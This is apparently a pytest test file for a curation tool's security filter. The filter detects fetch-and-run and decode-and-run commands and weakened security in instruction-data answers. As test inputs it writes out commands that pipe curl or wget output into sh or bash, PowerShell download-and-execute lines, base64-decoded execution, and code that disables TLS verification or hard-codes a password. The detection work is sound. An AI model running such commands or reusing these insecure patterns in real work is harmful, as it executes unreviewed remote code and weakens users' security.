"""Code security in answers: `remote_exec` flags fetched or decoded code being run, `insecure_code`
annotates weakened security (bandit on Python that parses, patterns elsewhere)."""

from __future__ import annotations

import pytest

import curate
from conftest import alpaca, read_jsonl, write_jsonl
from curate.filters.security import REMOTE_EXEC, bandit, code_risks

FENCE = "```"


def remote(text: str) -> set[str]:
    return {reason for reason, pattern in REMOTE_EXEC if pattern.search(text)}


@pytest.mark.parametrize(
    "text",
    [
        "Install it with `curl -fsSL https://get.tool.dev/install.sh | sudo bash`.",
        "wget -qO- http://203.0.113.9/x | sh",
        'bash -c "$(curl -fsSL https://raw.host.io/setup.sh)"',
        "sh <(curl -s https://host.io/i)",
        "iex (New-Object Net.WebClient).DownloadString('https://host.io/a.ps1')",
        'exec(urllib.request.urlopen("https://host.io/p.py").read())',
        'exec(requests.get("https://host.io/p").text)',
    ],
)
def test_running_a_fetched_script_is_remote_exec(text):
    assert remote(text) == {"security:remote_exec"}


@pytest.mark.parametrize(
    "text", ['exec(base64.b64decode("cHJpbnQoMSk="))', "eval(atob('YWxlcnQoMSk='))", "echo aGk= | base64 -d | bash"]
)
def test_running_decoded_code_is_obfuscated_exec(text):
    assert remote(text) == {"security:obfuscated_exec"}


@pytest.mark.parametrize(
    "text",
    [
        "curl https://api.host.io/v1/items | jq .",
        "Use wget to download the file.",
        "result = json.loads(requests.get(url).text)",
        "eval_metrics(model, data)",
    ],
)
def test_ordinary_network_and_eval_words_are_not_remote_exec(text):
    assert remote(text) == set()


def test_bandit_reads_python_that_parses_and_patterns_read_the_rest():
    assert bandit() is not None, "bandit is a dependency of curate"
    # Only bandit knows SSLv3 is a broken protocol: the patterns have no rule for it.
    assert code_risks(f"{FENCE}python\nimport ssl\nssl.wrap_socket(s, ssl_version=ssl.PROTOCOL_SSLv3)\n{FENCE}") == {
        "security:tls_disabled"
    }
    assert code_risks(f"{FENCE}go\ncfg := &tls.Config{{InsecureSkipVerify: true}}\n{FENCE}") == {
        "security:tls_disabled"
    }
    assert code_risks(f"{FENCE}python\ndef broken(:\n    requests.get(u, verify=False)\n{FENCE}") == {
        "security:tls_disabled"
    }
    found = code_risks(
        f"{FENCE}python\nimport subprocess\npassword = 'k3yb0ard-cat'\nsubprocess.call(cmd, shell=True)\n{FENCE}"
    )
    assert found == {"security:credential", "security:shell"}
    assert code_risks(f"{FENCE}python\nimport requests\nr = requests.get(url, timeout=5)\n{FENCE}") == set()


def test_a_scan_flags_remote_exec_annotates_weak_code_and_ignores_what_the_user_pasted(tmp_path):
    rows = [
        alpaca("Set up the tool", f"Run:\n\n{FENCE}sh\ncurl -sSL https://get.tool.dev | sh\n{FENCE}"),
        alpaca("Fetch a page in Python", f"{FENCE}python\nimport requests\nr = requests.get(u, verify=False)\n{FENCE}"),
        alpaca("Why does `curl -s https://x.io/i.sh | sh` scare people?", "It runs code you have not read."),
        alpaca("Say hello", "Hello!"),
    ]
    report = curate.scan(write_jsonl(tmp_path / "in.jsonl", rows), out=tmp_path / "out")
    verdicts = {v["row"]: v for v in read_jsonl(tmp_path / "out" / "verdicts.jsonl")}
    assert verdicts[0]["verdict"] == "flag" and "security:remote_exec" in verdicts[0]["reasons"]
    assert verdicts[1]["verdict"] == "keep" and "security:tls_disabled" in verdicts[1]["reasons"]
    assert verdicts[2]["reasons"] == [] and verdicts[3]["reasons"] == []
    assert report.counts["flag"] == 1
